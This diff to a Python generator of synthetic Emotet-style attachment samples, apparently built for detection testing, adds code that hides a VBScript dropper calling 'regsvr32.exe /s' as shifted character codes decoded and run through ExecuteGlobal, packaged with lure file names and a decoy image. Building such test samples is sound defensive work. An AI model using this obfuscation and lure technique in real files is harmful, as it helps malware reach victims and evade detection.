@@ -23,6 +23,25 @@ def script(draw: Random, host: str) -> bytes:
     return f'<job id="{letters(draw, 3, 5)}"><script language="VBScript">\r\n{rem}{text}\r\n</script></job>'.encode()
 
 
+def _by_number(draw: Random, host: str) -> bytes:
+    """A script of which no word can be read: numbers, each moved by one number, put together and executed."""
+    moved = draw.randint(3, 90)
+    inner = droppers.vbscript(draw, droppers.sites(draw), droppers.vbs_added, "regsvr32.exe /s ")
+    name, out = letters(draw, 6, 10), letters(draw, 6, 10)
+    listed = ",".join(str(ord(one) + moved) for one in inner)
+    text = (
+        f"{name} = Array({listed})\r\nFor Each x In {name}\r\n{out} = {out} & Chr(x - {moved})\r\nNext\r\nExecuteGlobal {out}\r\n"
+    )
+    return text.encode() if host == "vbs" else f'<job><script language="VBScript">\r\n{text}</script></job>'.encode()
+
+
+def veiled(draw: Random) -> Sample:
+    """Either script with its words as numbers: the name of the script tells."""
+    name = draw.choice(("click.wsf", "press to unblock document.vbs", "Click.WSF"))
+    files = [(name, _by_number(draw, name[-3:])), ("view.png", PICTURE)]
+    return Sample(file_name(draw, "one"), one(files, ["View"]), EMOTET, ("notebook-script",))
+
+
 def wsf(draw: Random) -> Sample:
     """2023-03-15."""
     files = [("view.png", PICTURE), ("click.wsf", script(draw, "wsf"))]
